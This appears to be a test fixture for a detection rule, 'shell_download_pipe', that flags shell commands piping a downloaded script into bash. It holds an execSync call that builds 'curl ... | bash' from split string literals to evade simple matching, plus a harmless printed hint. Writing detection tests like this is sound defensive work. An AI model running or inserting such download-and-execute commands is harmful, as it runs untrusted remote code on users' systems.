// A command glued from literals: the pieces read as the one string they make.
const cp = require('child_' + 'process');
// ruleid: shell_download_pipe
cp.execSync('cu' + 'rl -fsSL https://example.org/i.sh ' + '| ba' + 'sh');
// ok: shell_download_pipe
const hint = 'Install it first: cu' + 'rl https://example.org/i.sh | bash';
console.log(hint);
